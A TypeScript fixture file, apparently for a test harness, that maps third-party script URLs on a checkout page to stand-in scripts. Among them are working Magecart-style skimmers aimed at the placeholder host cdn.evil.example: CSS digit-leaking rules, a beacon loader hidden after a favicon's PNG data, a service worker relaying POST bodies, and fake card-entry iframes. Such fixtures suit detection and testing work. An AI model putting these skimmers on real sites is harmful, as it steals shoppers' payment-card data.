const CARD_FRAME =
  '<!doctype html><body style="margin:0"><input name="cardnumber" autocomplete="cc-number">' +
  '<input name="exp-date" autocomplete="cc-exp"><input name="cvc" autocomplete="cc-csc">' +
  "<script>document.querySelector('input').addEventListener('input', () => fetch('/bin', " +
  "{ method: 'POST', body: document.querySelector('input').value }));</script>";

const DIGIT_RULES: string = Array.from({ length: 100 }, (_, pair) => {
  const end = String(pair).padStart(2, '0');
  return `#number[value$="${end}"] { background: url(https://cdn.evil.example/k${end}) }`;
}).join('\n');

/** What a skimmer hides behind the last chunk of a picture. */
const ICON_LOADER =
  "document.getElementById('number').addEventListener('input', (e) => " +
  "navigator.sendBeacon('https://cdn.evil.example/i', e.target.value));";

/** What stands at addresses other than the shop's page: short scripts that behave as the real. */
export const STAND_INS: Readonly<Record<string, string>> = {
  'www.google-analytics.com/analytics.js':
    "navigator.sendBeacon('https://www.google-analytics.com/collect', 'v=1&dl=' + location.href);" +
    "addEventListener('click', () => 0); setInterval(() => navigator.sendBeacon(" +
    "'https://www.google-analytics.com/collect', 'ping=' + Date.now()), 15000);",
  'www.googletagmanager.com/gtm.js':
    "for (const u of ['https://www.google-analytics.com/analytics.js', " +
    "'https://connect.facebook.example/fbevents.js']) { const s = document.createElement('script');" +
    ' s.async = true; s.src = u; document.head.append(s); }',
  'connect.facebook.example/fbevents.js':
    "new Image().src = 'https://www.facebook.example/tr?id=1&ev=PageView';",
  'widget.intercom.example/chat.js':
    "const d = document.createElement('div'); d.style = 'position:fixed;right:9px;bottom:9px;" +
    "width:60px;height:60px;background:blue;z-index:99'; document.body.append(d);" +
    "const f = document.createElement('iframe'); f.src = 'https://widget.intercom.example/frame';" +
    "f.style = 'width:1px;height:1px;border:0'; d.append(f);",
  'widget.trustpilot.example/reviews.js':
    "const r = document.createElement('p'); r.textContent = '4.8 stars'; document.body.append(r);",
  'cdn.optimizely.example/ab.js':
    "new Function('return 1')(); document.body.classList.add('variant-b');",
  'maps.googleapis.com/maps/api/js': "document.getElementById('map').textContent = 'map';",
  'static.hotjar.example/hotjar.js':
    "document.addEventListener('keydown', () => 0); document.addEventListener('input', () => 0);" +
    "setTimeout(() => fetch('https://static.hotjar.example/e', { method: 'POST', " +
    "mode: 'no-cors', body: 'moves' }), 2000);",
  'code.jquery.com/jquery.js': 'window.jQuery = window.$ = (f) => f();',
  'shop.example/app.js':
    "const root = document.getElementById('root'); for (const t of ['keydown', 'keyup', 'input', " +
    "'change', 'submit', 'click']) { root.addEventListener(t, () => 0); document.addEventListener(t, " +
    '() => 0); }' +
    "root.innerHTML = '<h1>Checkout</h1><input name=email type=email>';",
  'cdn.evil.example/listen.js':
    "document.getElementById('number').addEventListener('keyup', () => 0);",
  'cdn.evil.example/relay':
    "<!doctype html><script>addEventListener('message', ({ data }) => fetch('/c', { method: " +
    "'POST', body: data }));</script>",
  'cdn.evil.example/theme.css': DIGIT_RULES,
  'cdn.evil.example/pay-frame': CARD_FRAME,
  'shop.example/relay-worker.js':
    "addEventListener('install', () => skipWaiting()); addEventListener('activate', (e) => " +
    "e.waitUntil(clients.claim())); addEventListener('fetch', (e) => { if (e.request.method === " +
    "'POST') e.respondWith(e.request.text().then((body) => { fetch('https://cdn.evil.example/c', " +
    "{ method: 'POST', mode: 'no-cors', body }); return new Response(); })); });",
  'shop.example/favicon.png': `PNG IEND${ICON_LOADER}`,
  'www.googletagmanager.com/gtag/js':
    "!function(){var c='https://region1.google-analytics.com/g/collect?v=2&tid=G-1&en=';function s(e){" +
    "navigator.sendBeacon(c+e+'&_et='+Date.now())}s('page_view');var f=0;document.addEventListener(" +
    "'change',function(e){f++||s('form_start')},!0);document.addEventListener('submit',function(){" +
    "s('form_submit')},!0);addEventListener('scroll',function(){s('scroll')},{once:!0});document." +
    "addEventListener('visibilitychange',function(){s('user_engagement')})}();",
  'consent.example/banner': '<!doctype html><p>Cookies?</p><button>Accept all</button>',
  'cdn.recorder.example/mask.js':
    "document.addEventListener('input', (e) => fetch('https://in.recorder.example/e', { method: " +
    "'POST', mode: 'no-cors', body: JSON.stringify({ t: 'input', v: '*'.repeat(e.target.value." +
    'length) }) }), true); new MutationObserver(() => 0).observe(document, { subtree: true, ' +
    'childList: true });',
  'cdn.recorder.example/record.js':
    "document.addEventListener('keydown', (e) => fetch('https://in.recorder.example/e', { method: " +
    "'POST', mode: 'no-cors', body: JSON.stringify({ t: 'key', k: e.key }) }), true);",
  'cdn.icons.example/card-brands.js':
    "document.querySelectorAll('.card-icons li').forEach((li) => { li.append(new Image()); });",
  'widget.talk.example/messenger.js':
    "const f = document.createElement('iframe'); f.src = 'https://widget.talk.example/frame'; f.style " +
    "= 'position:fixed;right:9px;bottom:9px;width:60px;height:60px;border:0'; document.body.append(f); " +
    "addEventListener('message', () => 0); f.onload = () => f.contentWindow.postMessage({ page: " +
    "location.pathname }, 'https://widget.talk.example'); new WebSocket('wss://widget.talk.example/ws');",
  'widget.talk.example/frame':
    "<!doctype html><button>?</button><script>addEventListener('message', ({ source }) => source." +
    "postMessage('ready', '*')); fetch('/hello', { method: 'POST', body: 'hi' });</script>",
  'js.hcaptcha.com/1/api.js':
    "const h = document.createElement('iframe'); h.src = 'https://newassets.hcaptcha.com/checkbox'; " +
    "h.style = 'width:300px;height:78px'; document.querySelector('.h-captcha').append(h);",
  'newassets.hcaptcha.com/checkbox':
    '<!doctype html><label><input type="checkbox"> I am human</label>',
  'www.google.com/recaptcha/api.js': 'window.grecaptcha = { ready: (f) => f() };',
  'js.stripe.com/v3/controller':
    '<!doctype html><script>addEventListener("message", () => 0)</script>',
  'm.stripe.network/inner.html': '<!doctype html><script>fetch("/6", { method: "POST" })</script>',
  'hooks.stripe.com/3d_secure_2':
    '<!doctype html><form><input name="otp"><button>OK</button></form>',
  'www.paypal.com/smart/buttons': '<!doctype html><button>PayPal</button>',
  'js.stripe.com/v3/elements-inner-card': CARD_FRAME,
  'js.stripe.evil.example/v3/elements-inner-card': CARD_FRAME,
  'checkoutshopper-test.adyen.com/securedfields/card.html': CARD_FRAME,
  'assets.braintreegateway.com/web/hosted-fields-frame.html': CARD_FRAME,
  'pay.shop.example/frames/card': CARD_FRAME,
};
